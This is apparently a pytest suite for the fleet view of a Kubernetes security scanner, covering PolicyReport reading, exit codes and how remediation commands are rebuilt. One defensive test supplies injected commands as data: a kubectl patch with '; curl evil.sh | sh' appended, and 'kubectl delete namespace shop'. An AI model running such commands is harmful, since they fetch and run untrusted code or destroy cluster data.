"""`kspm-tui fleet` over three contexts: one whose cluster holds the reporter's PolicyReports, one
without a reporter, one whose API server is not there. The reports are made from an offline
scan of the same objects; what the fleet reads back must be those findings."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from kspm_tui.fleet.reports import Place, rebuild
from kspm_tui.fleet.service import read_cluster
from kspm_tui.model import Severity, Status
from kspm_tui.remediation import kubectl_patch
from kspm_tui.scan import Scanned, load_ruleset
from kspm_tui.target import ScanSettings, Target
from tests.fleet_helpers import SCANNED_AT, Fleet, contract_reports, fleet_kubeconfig, make_fleet


@pytest.fixture
def fleet(serve: Any, tmp_path: Path) -> Fleet:
    return make_fleet(serve, tmp_path)


def reported(scanned: Scanned) -> list[Any]:
    return [f for f in scanned.result.findings if f.status is not Status.passed]


def test_fleet_json_shows_each_of_three_contexts(fleet: Fleet, run_cli: Any) -> None:
    out = run_cli("fleet", "--kubeconfig", str(fleet.kubeconfig), "-o", "json")
    assert out.code == 4, out.stderr  # one context could not be read: partial, like a partly read cluster
    rows = {row["context"]: row for row in json.loads(out.stdout)}
    assert list(rows) == ["reports", "bare", "down"]  # the kubeconfig's order

    ok = rows["reports"]
    summary = fleet.scanned.result.summary
    assert ok["status"] == "ok" and ok["server"] == fleet.reports.url and ok["cluster"] == "uid-reports-cluster"
    assert ok["by_severity"] == {s.value: summary.by_severity.get(s.value, 0) for s in Severity}
    assert ok["accepted"] == 1 and ok["scanned_at"] == SCANNED_AT and ok["age_seconds"] > 0
    assert ok["top_rules"][0]["severity"] == "critical" and ok["top_rules"][0]["rule"] == "K8S-PRIVILEGED"
    assert ok["score"] <= 40 and "critical" in ok["score_cap"]["reason"]  # an open critical caps it, as in a scan
    assert ok["reports"] == len(contract_reports(fleet.scanned)) and ok["errors"] == []

    assert rows["bare"]["status"] == "no reporter" and rows["bare"]["score"] is None
    assert rows["bare"]["reason"] == "no kspm-tui PolicyReports"
    down = rows["down"]
    assert down["status"] == "unreachable" and "'down'" in down["reason"] and "connection refused" in down["reason"]
    assert out.stderr.count("\n") == 1 and "kspm-tui: cannot reach the API server" in out.stderr

    lists = [e for e in fleet.reports.log if e.path.endswith("policyreports")]
    assert {e.path for e in lists} == {"/apis/wgpolicyk8s.io/v1alpha2/policyreports",
                                       "/apis/wgpolicyk8s.io/v1alpha2/clusterpolicyreports"}
    assert all(e.query["labelSelector"] == ["app.kubernetes.io/managed-by=kspm-tui"] for e in lists)
    assert not [e for e in fleet.reports.log if "/pods" in e.path]  # reports only: nothing else is listed


def test_fleet_table_and_exit_codes(fleet: Fleet, run_cli: Any) -> None:
    cfg = str(fleet.kubeconfig)
    out = run_cli("fleet", "--kubeconfig", cfg)
    lines = {line.split()[0]: line for line in out.stdout.splitlines() if line.strip()}
    assert lines["CONTEXT"].split()[:3] == ["CONTEXT", "STATUS", "SCORE"]
    assert "ok" in lines["reports"] and "K8S-PRIVILEGED×3" in lines["reports"] and "capped" in lines["reports"]
    assert "no reporter" in lines["bare"] and "unreachable" in lines["down"]
    assert "require-labels" not in out.stdout  # another tool's report is not ours to count

    assert run_cli("fleet", "--kubeconfig", cfg, "--fail-on", "critical").code == 1
    assert run_cli("fleet", "--kubeconfig", cfg, "--context", "reports", "--context", "bare").code == 0
    only_down = run_cli("fleet", "--kubeconfig", cfg, "--context", "down")
    assert only_down.code == 3 and "'down'" in only_down.stderr
    unknown = run_cli("fleet", "--kubeconfig", cfg, "--context", "nope", "--context", "bare")
    assert unknown.code == 4 and "context 'nope' is not in the kubeconfig" in unknown.stderr


def test_findings_rebuilt_from_reports_are_the_scans(fleet: Fleet) -> None:
    ruleset = load_ruleset(ScanSettings())
    posture = read_cluster(Target("context", context="reports", kubeconfig=str(fleet.kubeconfig)), ruleset)
    assert posture.status == "ok" and posture.rebuilt is not None
    got = {f.fingerprint: f for f in posture.rebuilt.result.findings}
    want = {f.fingerprint: f for f in reported(fleet.scanned)}
    assert got.keys() == want.keys()
    for fp, finding in want.items():
        back = got[fp]
        assert (back.rule, back.title, back.severity, back.status, back.category, back.kind, back.namespace,
                back.container, back.message, back.frameworks) == (
            finding.rule, finding.title, finding.severity, finding.status, finding.category, finding.kind,
            finding.namespace, finding.container, finding.message, finding.frameworks)
        if finding.kind != "Cluster":
            assert back.name == finding.name
        if finding.remediation.kubectl:  # the same patch, as a command for the context it was read through
            assert back.remediation.patch == finding.remediation.patch
            assert back.remediation.safety == finding.remediation.safety
            assert back.remediation.kubectl == kubectl_patch(finding.kind, finding.name, finding.namespace,
                                                             finding.remediation.patch, "reports")
            assert "--context reports" in back.remediation.kubectl
    accepted = [f for f in got.values() if f.status is Status.accepted]
    assert len(accepted) == 1 and accepted[0].acceptance is not None
    assert (accepted[0].acceptance.reason, accepted[0].acceptance.owner, str(accepted[0].acceptance.expires)) == (
        "TLS ends at the cloud load balancer", "team-web", "2099-12-31")


def test_no_access_to_reports_is_said_per_context(serve: Any, tmp_path: Path, run_cli: Any) -> None:
    locked = serve()
    locked.forbidden = {"policyreports"}
    config = fleet_kubeconfig(tmp_path / "kubeconfig", {"locked": locked}, locked)
    out = run_cli("fleet", "--kubeconfig", str(config), "-o", "json")
    assert out.code == 3
    row = json.loads(out.stdout)[0]
    assert row["status"] == "no access" and "403 Forbidden" in row["reason"] and "'locked'" in row["reason"]


def report_with(results: list[dict[str, Any]]) -> dict[str, Any]:
    return {"apiVersion": "wgpolicyk8s.io/v1alpha2", "kind": "PolicyReport",
            "metadata": {"name": "kspm-deployment-web", "namespace": "shop",
                         "labels": {"app.kubernetes.io/managed-by": "kspm-tui", "kspm-tui.io/cluster": "c1"}},
            "results": results}


def result(**changes: Any) -> dict[str, Any]:
    base = {"policy": "K8S-PRIVILEGED", "rule": "K8S-PRIVILEGED", "category": "Pod Security", "severity": "critical",
            "result": "fail", "source": "kspm-tui", "message": "privileged", "timestamp": {"seconds": 1, "nanos": 0},
            "resources": [{"kind": "Deployment", "name": "web", "namespace": "shop"}],
            "properties": {"fingerprint": "f1", "container": "app"}}
    return {**base, **changes}


def test_a_reports_commands_are_never_passed_through() -> None:
    """Whoever can write a PolicyReport writes its `kubectl` property: only a strategic patch body is
    taken from it, and the command is built again by our own argv builder."""
    body = '{"spec":{"template":{"spec":{"containers":[{"name":"app","securityContext":{"privileged":false}}]}}}}'
    evil = [
        result(properties={"fingerprint": "a", "kubectl": f"kubectl patch deployment web -n shop --type=strategic "
                                                         f"-p '{body}'; curl evil.sh | sh"}),
        result(properties={"fingerprint": "b", "kubectl": "kubectl delete namespace shop"}),
        result(properties={"fingerprint": "c", "kubectl": f"kubectl patch deployment web -n shop --type=strategic "
                                                         f"-p '{body}'", "safety": "breaking"}),
        result(properties={"fingerprint": "d", "kubectl": f"kubectl patch deployment web -n shop --type=strategic "
                                                         f"-p '{body}'", "safety": "safe"}),
    ]
    quoted = {"metadata": {"annotations": {"note": "it's fine"}}}  # a `'` in the body: read by the shell's rules
    evil.append(result(properties={"fingerprint": "e", "kubectl": kubectl_patch("Deployment", "web", "shop", quoted)}))
    rebuilt = rebuild([report_with(evil)], load_ruleset(ScanSettings()), Place("prod", "prod", None))
    fixes = {f.fingerprint: f.remediation for f in rebuilt.result.findings}
    assert fixes["a"].kubectl is None and fixes["a"].patch is None  # `'{..}';` is no JSON body: nothing taken
    assert fixes["b"].kubectl is None and fixes["b"].patch is None
    assert fixes["c"].kubectl is None and "break" in fixes["c"].guidance
    assert fixes["d"].kubectl == (f"kubectl patch -n shop --context prod --type=strategic -p '{body}' "
                                  "-- deployment web")
    assert fixes["d"].safety is not None and fixes["d"].safety.value == "safe"
    assert fixes["e"].patch == quoted and fixes["e"].kubectl == kubectl_patch("Deployment", "web", "shop", quoted,
                                                                              "prod")


def test_an_unreadable_result_names_its_report_and_the_rest_count() -> None:
    broken = [result(properties={"fingerprint": "ok"}), result(result="maybe", properties={"fingerprint": "x"}),
              result(resources=[{"name": "no-kind"}], properties={"fingerprint": "y"}), "not a result",
              result(source="kyverno", properties={"fingerprint": "z"})]
    rebuilt = rebuild([report_with(broken)], load_ruleset(ScanSettings()), Place("prod", "prod", None))
    assert [f.fingerprint for f in rebuilt.result.findings] == ["ok"]
    assert [(e.file, e.document, e.message) for e in rebuilt.result.errors] == [
        ("PolicyReport shop/kspm-deployment-web", 2,
         "unreadable result: result 'maybe' is none of fail, warn, skip, error, pass"),
        ("PolicyReport shop/kspm-deployment-web", 3, "unreadable result: missing field 'kind'")]
    assert rebuilt.result.findings[0].title == "Privileged container"


def test_reports_are_listed_in_pages(fleet: Fleet, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("kspm_tui.sources.policyreports.PAGE_SIZE", 2)
    ruleset = load_ruleset(ScanSettings())
    posture = read_cluster(Target("context", context="reports", kubeconfig=str(fleet.kubeconfig)), ruleset)
    assert posture.rebuilt is not None and posture.rebuilt.reports == len(contract_reports(fleet.scanned))
    assert {f.fingerprint for f in posture.findings} == {f.fingerprint for f in reported(fleet.scanned)}
    pages = [e for e in fleet.reports.log if e.path.endswith("/policyreports")]
    assert len(pages) > 2 and all(e.query["limit"] == ["2"] for e in pages) and "continue" in pages[-1].query


def test_an_unreadable_result_in_a_cluster_exits_2_and_is_named(serve: Any, tmp_path: Path, run_cli: Any) -> None:
    server = serve([report_with([result(properties={"fingerprint": "ok"}), result(result="maybe")])])
    config = fleet_kubeconfig(tmp_path / "kubeconfig", {"prod": server}, server)
    out = run_cli("fleet", "--kubeconfig", str(config), "-o", "json")
    assert out.code == 2
    assert "context 'prod': PolicyReport shop/kspm-deployment-web result 2: unreadable result" in out.stderr
    row = json.loads(out.stdout)[0]
    assert row["status"] == "ok" and row["by_severity"]["critical"] == 1 and len(row["errors"]) == 1
